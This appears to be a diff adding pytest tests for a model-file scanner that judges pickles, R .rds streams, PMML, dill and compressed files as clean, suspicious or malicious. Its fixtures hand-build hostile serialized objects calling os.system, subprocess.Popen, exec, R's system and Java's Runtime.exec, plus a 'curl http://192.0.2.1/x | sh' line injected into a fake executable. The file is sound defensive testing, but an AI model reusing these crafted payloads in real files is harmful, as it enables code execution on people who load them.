@@ -1,0 +1,135 @@
+"""What is left over when something breaks off or nobody came for it: cut pickles, arguments that wait in R, padding."""
+
+from __future__ import annotations
+
+import gzip
+import lzma
+import pickle
+import struct
+
+import pytest
+
+from upright.discover.model_file import inspect
+from upright.model.item import Item
+from upright.testing.hostile_pickles import PAYLOAD
+
+NIL, UNBOUND, GLOBAL, BASE_NAMESPACE = 254, 252, 253, 250
+
+
+def judged(content: bytes, path: str = "weights.bin") -> str:
+    return inspect(Item("test", path, len(content), content=content)).verdict
+
+
+def number(value: int) -> bytes:
+    return struct.pack(">i", value)
+
+
+def symbol(name: bytes) -> bytes:
+    return number(1) + number(0x40009) + number(len(name)) + name
+
+
+def text(value: bytes) -> bytes:
+    return number(16) + number(1) + number(0x40009) + number(len(value)) + value
+
+
+def call(function: bytes, *arguments: bytes) -> bytes:
+    return number(6) + symbol(function) + b"".join(number(2) + each for each in arguments) + number(NIL)
+
+
+def promise(expression: bytes, value: bytes = number(UNBOUND)) -> bytes:
+    return number(5 | 0x400) + number(GLOBAL) + value + expression
+
+
+def values(*items: bytes) -> bytes:
+    return number(19) + number(len(items)) + b"".join(items)
+
+
+def environment(variable: bytes) -> bytes:
+    frame = number(2 | 0x400) + symbol(b"x") + variable + number(NIL)
+    return number(4) + number(0) + number(GLOBAL) + frame + number(NIL) + number(NIL)
+
+
+def stream(value: bytes) -> bytes:
+    head = b"X\n" + number(3) + number(0x040400) + number(0x030500) + number(5) + b"UTF-8"
+    return gzip.compress(head + value, mtime=0)
+
+
+@pytest.mark.parametrize(
+    ("value", "verdict"),
+    [
+        (environment(promise(call(b"match.arg", text(b"type")))), "clean"),
+        (environment(promise(call(b"eval", symbol(b"frame")))), "clean"),
+        (environment(promise(call(b"system", text(b"id")), text(b"what it gave"))), "suspicious"),
+        (environment(promise(call(b"system2", text(b"id")))), "malicious"),
+        (environment(promise(call(b"do.call", text(b"system"), text(b"id")))), "malicious"),
+        (environment(promise(call(b"eval", call(b"parse", text(b"1"))))), "malicious"),
+        (values(promise(call(b"system", text(b"id")))), "malicious"),
+        (values(promise(call(b"match.arg", text(b"type")))), "suspicious"),
+        (values(number(BASE_NAMESPACE), text(b"a")), "clean"),
+    ],
+)
+def test_arguments_that_wait_in_an_environment_are_everyday_in_r(value: bytes, verdict: str) -> None:
+    assert judged(stream(value), "model.rds") == verdict
+
+
+@pytest.mark.parametrize(
+    ("content", "verdict"),
+    [
+        (b"cos\nsystem\n(V", "suspicious"),
+        (b"cbuiltins\neval\n", "suspicious"),
+        (b"(lp0\ncsubprocess\nPopen\np1\n", "suspicious"),
+        (b"(dp0\nVk\np1\nc__builtin__\nexec\np2\n(Vprint(1)\n", "suspicious"),
+        (b"\x80\x02]q\x00cposix\nsystem\n", "suspicious"),
+        (b"cos\nsin\n", "unknown"),
+        (b"cat\ndog\n(fish\n", "unknown"),
+        (b"cos\nsystem\nthe\nof\n", "unknown"),
+    ],
+)
+def test_a_pickle_cut_off_behind_what_does_harm(content: bytes, verdict: str) -> None:
+    assert judged(content) == verdict
+
+
+def test_streams_of_xz_may_be_filled_up() -> None:
+    assert (
+        judged(lzma.compress(pickle.dumps({"w": [1.5]})) + bytes(8) + lzma.compress(PAYLOAD), "m.pkl.xz") == "malicious"
+    )
+
+
+@pytest.mark.parametrize(
+    ("function", "verdict"),
+    [("java.lang.Runtime.exec", "suspicious"), ("com.shop.Rank", "unknown"), ("normalCDF", "clean")],
+)
+def test_pmml_may_call_a_class_of_java(function: str, verdict: str) -> None:
+    apply = (
+        f'<DerivedField name="a" dataType="double" optype="continuous"><Apply function="{function}"/></DerivedField>'
+    )
+    model = f'<PMML version="4.4"><Header/><TransformationDictionary>{apply}</TransformationDictionary></PMML>'
+    assert judged(model.encode(), "m.pmml") == verdict
+
+
+def test_a_program_of_every_system_that_carries_a_model() -> None:
+    carries = b"MZqFpD='\n" + bytes(500) + b"%s" + b"GGUF\3\0\0\0" + bytes(16)
+    assert judged(carries % b"", "chat.exe") == "unknown"
+    assert judged(carries.replace(b"\n", b"\ncurl http://192.0.2.1/x | sh\n", 1) % b"", "chat.exe") == "suspicious"
+
+
+@pytest.mark.parametrize(("name", "verdict"), [(b"os.system", "suspicious"), (b"os.path", "unknown")])
+def test_dill_gives_what_is_no_module_too(name: bytes, verdict: str) -> None:
+    imported = b"\x8c\x0adill._dill\x8c\x0e_import_module\x93\x8c" + bytes([len(name)]) + name + b"\x85R"
+    assert (judged(b"\x80\x04" + imported + b".") == "suspicious") == (verdict == "suspicious")
+
+
+@pytest.mark.parametrize(
+    ("name", "verdict"),
+    [
+        (b"os.stat_result", "clean"),
+        (b"subprocess.CalledProcessError", "clean"),
+        (b"shutil.Error", "clean"),
+        (b"torch.fx.immutable_collections.immutable_dict", "clean"),
+        (b"subprocess.Popen", "malicious"),
+        (b"somewhere.LoadError", "unknown"),
+    ],
+)
+def test_what_only_tells_does_no_harm(name: bytes, verdict: str) -> None:
+    module, _, last = name.rpartition(b".")
+    assert judged(b"c" + module + b"\n" + last + b"\n(I1\ntR.") == verdict
